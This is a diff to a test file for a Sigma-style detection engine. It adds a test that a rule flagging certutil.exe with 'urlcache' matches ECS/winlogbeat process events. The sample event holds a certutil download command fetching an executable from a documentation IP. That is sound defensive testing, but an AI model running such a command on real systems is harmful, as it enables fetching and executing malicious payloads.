@@ -244,6 +244,28 @@ def test_rules_only_see_events_of_their_logsource(tmp_path: Path) -> None:
     assert titles(event("linux", User="root", Image="\\whoami.exe")) == ["linux"]
 
 
+def test_image_rules_match_winlogbeat_documents(tmp_path: Path) -> None:
+    """ECS documents carry process.executable, not Elasticsearch's .caseless sub-field."""
+    folder = tmp_path / "rules"
+    folder.mkdir()
+    write_rule(
+        folder,
+        "certutil",
+        "sel:\n    Image|endswith: '\\certutil.exe'\n    CommandLine|contains: urlcache\n"
+        "condition: sel\n",
+        {"category": "process_creation", "product": "windows"},
+    )
+    detector = Detector(load_rules([folder], cache_dir=None, use_cache=False))
+    ecs = {
+        "winlog.channel": "Microsoft-Windows-Sysmon/Operational",
+        "winlog.event_id": 1,
+        "event.code": "1",
+        "process.executable": "C:\\Windows\\System32\\certutil.exe",
+        "process.command_line": "certutil -urlcache -f http://198.51.100.7/a.exe",
+    }
+    assert [m.rule.info.title for m in detector.match_event(event("ecs", **ecs))] == ["certutil"]
+
+
 def test_candidate_index_never_changes_results() -> None:
     """Indexed matching (dispatch + literals) equals running every rule on every event."""
     corpus = Path(__file__).resolve().parents[2] / ".." / "shared" / "corpus" / "sigmahq-regression"
